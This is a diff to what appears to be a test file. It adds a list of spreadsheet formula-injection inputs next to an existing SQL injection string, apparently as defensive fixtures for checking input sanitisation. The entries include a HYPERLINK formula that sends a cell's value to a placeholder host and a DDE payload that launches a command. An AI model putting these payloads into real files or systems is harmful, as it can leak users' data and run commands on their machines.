@@ -24,3 +24,20 @@ HOSTILE = [
     "x" * 2000,
     "'; DROP TABLE zones; --",
 ]
+
+# What the CSV injection page of the Open Worldwide Application Security Project warns of: cells
+# that begin with = + - @ TAB CR or LF (from memory), with blanks or an apostrophe before them.
+FORMULAS = [
+    "=1+1",
+    "+44 lawn",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "   =1+1",
+    '=HYPERLINK("http://example.invalid/?x="&A1;"look")',
+    "=cmd|' /C calc'!A0",
+    "'=1+1",
+    "-",
+]
